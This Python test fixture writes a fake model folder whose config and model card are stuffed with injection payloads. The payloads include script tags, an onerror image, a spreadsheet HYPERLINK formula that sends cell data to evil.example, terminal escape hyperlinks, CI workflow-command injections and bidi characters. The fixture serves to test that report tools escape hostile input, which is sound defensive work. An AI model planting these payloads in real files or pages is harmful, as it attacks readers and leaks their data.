"""A model folder that attacks whoever reads a report of it: with markup, formulas, escape sequences, links and workflow commands."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

ATTACKS = (
    "<script>document.title='owned'</script>",
    "</style></title><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "[click](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "a\u202eb\u2066c\u200bd",
    "x\n::error::injected",
    "x\r\n##[error]injected",
    "a|b`c` **bold** &lt;b&gt; {{ 7 * 7 }} {% raw %}",
    '" onmouseover="alert(1)" x="',
)
ALL = " ".join(ATTACKS)
NAME = "=HYPERLINK(1) <script>alert(1)<script> [a](b) \x1b[31m \u202e"
"""The name of the folder."""
CONFIG: dict[str, Any] = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 64,
    "intermediate_size": 128,
    "num_hidden_layers": 2,
    "num_attention_heads": 8,
    "num_key_value_heads": 3,
    "vocab_size": 256,
    "max_position_embeddings": 512,
    "hidden_act": ALL,
    "torch_dtype": ALL,
    "rope_scaling": {"rope_type": ALL, "factor": ALL},
    "quantization_config": {"quant_method": ALL},
    "transformers_version": ALL,
    "auto_map": {"AutoModelForCausalLM": ALL},
    "bos_token_id": ALL,
    **dict.fromkeys(ATTACKS, 1),
}
CARD = f"""---
license: {json.dumps(ALL)}
license_link: "https://evil.example/\\"><script>"
datasets: {json.dumps(list(ATTACKS))}
base_model: {json.dumps(ALL)}
pipeline_tag: {json.dumps(ALL)}
library_name: {json.dumps(ALL)}
language: {json.dumps(list(ATTACKS))}
---

# {" ".join(ALL.split())}

A 900B parameter model with a context of 999K tokens {" ".join(ALL.split())}

| Benchmark | Score |
|---|---|
| MMLU {" ".join(ALL.split()).replace("|", "")} | 81.2 |
"""


def write(parent: Path) -> Path:
    """The folder below `parent`."""
    folder = parent / NAME
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(CONFIG, indent=1, ensure_ascii=False), encoding="utf-8")
    (folder / "README.md").write_text(CARD, encoding="utf-8")
    return folder
